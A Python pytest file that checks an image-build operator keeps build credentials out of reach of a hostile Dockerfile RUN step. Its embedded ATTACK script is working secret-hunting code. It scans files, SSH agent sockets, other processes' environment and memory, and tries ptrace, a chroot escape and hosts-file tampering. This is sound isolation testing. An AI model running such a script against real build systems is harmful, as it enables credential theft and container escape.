"""A hostile RUN in a real executor Pod: it looks for the build's credentials wherever Linux might show them.

A webhook's part is played by a mutating admission policy: it mounts a token into all containers, puts one into their
environment, and adds a container with one, as those of clouds and meshes do. In a Pod without the operator the same
attack succeeds: so it works.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cluster.client import Cluster
from imagebuilds.manifests import container
from imagebuilds.namespace import Namespace
from imagebuilds.operator_process import Operator
from servers.repository import Repository

pytestmark = [pytest.mark.root, pytest.mark.cluster]

SECRET = "correct-horse-battery"
ATTACK = """\
import base64, ctypes, glob, os, socket, stat
words = (b"correct-horse-", b"battery")
needle = words[0] + words[1]
needles = (needle, base64.b64encode(b"builder:" + needle).rstrip(b"=")[:-2], b"OPENSSH PRIVATE " + b"KEY-----\\nb3BlbnNz")
libc = ctypes.CDLL(None, use_errno=True)
def look(path, size=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except OSError:
        return b""
def memory(pid):
    for line in look(f"/proc/{pid}/maps").splitlines():
        fields = line.split()
        if not fields[1].startswith(b"rw"):
            continue
        begin, end = (int(x, 16) for x in fields[0].split(b"-"))
        try:
            with open(f"/proc/{pid}/mem", "rb") as file:
                file.seek(begin)
                yield file.read(min(end - begin, 1 << 26))
        except OSError:
            continue
def found(data):
    return any(n in data for n in needles)
def agent(path):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(2)
            line.connect(path)
            line.sendall(b"\\0\\0\\0\\1\\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
            return line.recv(5)[4:] == b"\\x0c"
    except OSError:
        return False
def files(top):
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
        for name in names:
            yield os.path.join(folder, name)
hits, seen = [], 0
for path in files("/"):
    try:
        kind = os.lstat(path).st_mode
    except OSError:
        continue
    if stat.S_ISREG(kind) and path != "/attack.py" and found(look(path)):
        hits.append("file")
    if stat.S_ISSOCK(kind) and agent(path):
        hits.append("agent")
for line in look("/proc/net/unix").splitlines():
    if line.split()[-1].startswith(b"@") and agent(b"\\0" + line.split()[-1][1:]):
        hits.append("agent")
proc = os.path.exists("/proc/self")
own = [os.readlink("/proc/self")] if proc else []  # by this /proc's numbers, which need not be ours
own += [look("/proc/self/stat").rpartition(b")")[2].split()[1].decode()] if proc else []  # the shell of this RUN
for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in own] if proc else []:
    seen += 1
    for kind in ("environ", "cmdline"):
        if found(look(f"/proc/{pid}/{kind}")):
            hits.append(kind)
    for path in (
        "kaniko/.docker/config.json", "kaniko/credentials/source/password", "var/run/secrets/cloud/token", "mesh/token",
        "kaniko/secrets/0",
    ):
        if found(look(f"/proc/{pid}/root/{path}")):
            hits.append("root")
    if libc.ptrace(0x4206, int(pid), 0, 0) == 0:  # SEIZE: ATTACH would leave the engine stopped when this ends
        hits.append("ptrace of " + look(f"/proc/{pid}/comm").decode().strip())
    hits.extend("memory" for data in memory(pid) if found(data))
os.makedirs("/escape", exist_ok=True)
try:
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/escape")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if found(look("/kaniko/.docker/config.json")):
        hits.append("chroot")
except OSError:
    pass
for path in ("/dev/termination-log", "/etc/hosts", "/etc/resolv.conf"):
    try:
        with open(path, "w") as file:
            file.write("192.0.2.1 attacker " * 100)
    except OSError:
        pass
print("looked at", seen, "processes; hits:", sorted(set(hits)) or "none")
"""
DOCKERFILE = """\
FROM python
COPY attack.py /
RUN --mount=type=secret,id=mine test -s /run/secrets/mine
RUN --mount=type=ssh test -S "$SSH_AUTH_SOCK"
RUN python3 /attack.py
RUN setsid sh -c 'echo $$ >/daemon; exec sleep 86399' >/dev/null 2>&1 & sleep 1; test -s /daemon && echo "daemon started"
RUN cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -q "sleep 8639[9]" && echo "daemon lives" || echo "daemon gone"
"""
ALONE = "FROM python\nCOPY attack.py /\nRUN python3 /attack.py\n"
FILES = {"Dockerfile": DOCKERFILE, "Alone": ALONE, "attack.py": ATTACK}
RUNTIME_DEFAULT = {"seccompProfile": {"type": "RuntimeDefault"}}
TOKEN: dict[str, Any] = {"name": "injected", "mountPath": "/var/run/secrets/cloud", "readOnly": True}
INJECTED = """\
["0", "1"].filter(i, int(i) < size(object.spec.containers)).map(i, [
  JSONPatch{op: "add", path: "/spec/containers/" + i + "/volumeMounts/-",
    value: Object.spec.containers.volumeMounts{name: "injected", mountPath: "/var/run/secrets/cloud", readOnly: true}},
]).flatten() + [
  JSONPatch{op: "add", path: "/spec/volumes/-", value: Object.spec.volumes{
    name: "injected", secret: Object.spec.volumes.secret{secretName: "injected"}}},
  JSONPatch{op: "add", path: "/spec/initContainers", value: [Object.spec.initContainers{
    name: "mesh", image: object.spec.containers[0].image, restartPolicy: "Always",
    command: ["/imagewright/usr/bin/busybox", "sleep", "86400"],
    volumeMounts: [Object.spec.initContainers.volumeMounts{name: "injected", mountPath: "/mesh"}]}]},
]
"""


@pytest.fixture
def injection(cluster: Cluster, builds: Namespace) -> Iterator[None]:
    """Pods of the namespace get what webhooks inject."""
    api, name = "admissionregistration.k8s.io/v1", f"inject-{builds.name}"
    match = {
        "resourceRules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]
    }
    here = {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": builds.name}}}
    mutation = {"patchType": "JSONPatch", "jsonPatch": {"expression": INJECTED}}
    policy: dict[str, Any] = {"matchConstraints": match, "failurePolicy": "Fail", "reinvocationPolicy": "Never"}
    kind = "MutatingAdmissionPolicy"
    cluster.apply(
        {"apiVersion": api, "kind": kind, "metadata": {"name": name}, "spec": {**policy, "mutations": [mutation]}},
        {
            "apiVersion": api,
            "kind": f"{kind}Binding",
            "metadata": {"name": name},
            "spec": {"policyName": name, "matchResources": here},
        },
    )
    builds.kubectl("create", "secret", "generic", "injected", f"--from-literal=token={SECRET}")
    yield
    cluster.try_kubectl("delete", kind.lower(), f"{kind.lower()}binding", name)


@pytest.fixture
def secrets(
    cluster: Cluster,
    builds: Namespace,
    git_source: Callable[..., tuple[Repository, dict[str, Any]]],
    tmp_path: Path,
) -> dict[str, Any]:
    """The fields of an ImageBuild that has logins of a registry and a git server, a build secret and an ssh key."""
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp_path / "key")], check=True)
    repository, git = git_source("builder", SECRET)
    repository.commit(FILES)
    builds.kubectl(
        "create", "secret", "docker-registry", "regcred", f"--docker-server={cluster.registry.host}",
        "--docker-username=builder", f"--docker-password={SECRET}",
    )  # fmt: skip
    builds.kubectl("create", "secret", "generic", "mine", f"--from-literal=mine={SECRET}")
    builds.kubectl("create", "secret", "generic", "key", f"--from-file=key={tmp_path}/key")
    return {
        "source": {"git": git},
        "output": {"tags": [builds.tag()], "pushSecretRef": {"name": "regcred"}},
        "secrets": [{"id": "mine", "secretKeyRef": {"name": "mine", "key": "mine"}}],
        "ssh": [{"secretKeyRef": {"name": "key", "key": "key"}}],
    }


@dataclass(frozen=True, slots=True)
class Setting:
    """How a Pod is confined and which sandbox is asked for, and the one that is to be taken."""

    profile: str
    context: dict[str, Any]
    asked: str
    taken: str


SETTINGS = {
    "userns": Setting("userns", {}, "Auto", "namespace"),
    "userns-with-seccomp": Setting("userns", RUNTIME_DEFAULT, "Auto", "root"),
    "plain": Setting("plain", {}, "Auto", "namespace"),
    "plain-with-seccomp": Setting("plain", RUNTIME_DEFAULT, "Auto", "root"),
    "chroot": Setting("plain", {}, "Chroot", "chroot"),
    "hardened": Setting("hardened", {}, "Auto", "root"),
    "userns-strict": Setting("userns-strict", {}, "Auto", "namespace"),
}


@pytest.mark.usefixtures("injection")
@pytest.mark.parametrize("setting", SETTINGS.values(), ids=SETTINGS)
def test_no_credential_is_within_reach_of_run(
    builds: Namespace, operators: Callable[..., Operator], secrets: dict[str, Any], setting: Setting
) -> None:
    operators(POD_PROFILE=setting.profile)
    template = {"securityContext": setting.context} if setting.context else {}
    builds.apply(**secrets, sandbox=setting.asked, podTemplate=template, requireIsolation=True)
    status = builds.phase("Succeeded")
    pod = builds.pods()[0]
    assert [one["name"] for one in pod["spec"]["initContainers"]] == ["mesh"]
    assert all(TOKEN in one["volumeMounts"] for one in pod["spec"]["containers"])
    assert "/kaniko/credentials/source" in [one["mountPath"] for one in container(pod)["volumeMounts"]]
    log = builds.kubectl("logs", pod["metadata"]["name"])
    hits = next(line for line in log.splitlines() if "looked at" in line)
    assert hits.endswith("hits: none"), hits
    assert status["build"]["sandbox"] == setting.taken
    assert "not a security boundary" not in status["build"]["sandboxReason"]
    assert "daemon started" in log
    assert "| daemon gone" in log or setting.taken == "chroot", "without /proc nothing shows it"
    assert SECRET not in log


def test_in_a_pod_without_the_operator_the_same_attack_succeeds_or_is_refused(
    cluster: Cluster, builds: Namespace, build_settings: dict[str, str], secrets: dict[str, Any]
) -> None:
    content = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "attack"}, "data": FILES}
    builds.kubectl("create", "--filename=-", given=content)

    def attack(name: str, secret: dict[str, Any], *flags: str) -> str:
        kaniko = {
            "name": "kaniko",
            "image": build_settings["EXECUTOR_IMAGE"],
            "args": [
                "--context=dir:///kaniko/context",
                "--dockerfile=Alone",
                "--no-push",
                f"--registry-mirror={cluster.registry.host}",
                f"--insecure-registry={cluster.registry.host}",
                *flags,
            ],
            "securityContext": RUNTIME_DEFAULT,
            "volumeMounts": [
                {"name": "context", "mountPath": "/kaniko/context"},
                {"name": "login", "mountPath": "/kaniko/.docker"},
            ],
        }
        volumes = [{"name": "context", "configMap": {"name": "attack"}}, {"name": "login", "secret": secret}]
        spec = {"restartPolicy": "Never", "containers": [kaniko], "volumes": volumes}
        builds.kubectl(
            "create",
            "--filename=-",
            given={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec},
        )
        builds.kubectl(
            "wait", "--for=jsonpath={.status.containerStatuses[0].state.terminated}", f"pod/{name}", "--timeout=180s"
        )
        return builds.kubectl("logs", name)

    registry = {"secretName": "regcred", "items": [{"key": ".dockerconfigjson", "path": "config.json"}]}
    log = attack("kaniko", registry)
    assert "RUN can read whatever the container can" in log
    assert "'file'" in log, log
    assert "'file'" in attack("git", {"secretName": "git-login"})
    assert "[NotIsolated]" in attack("refused", registry, "--require-isolation")
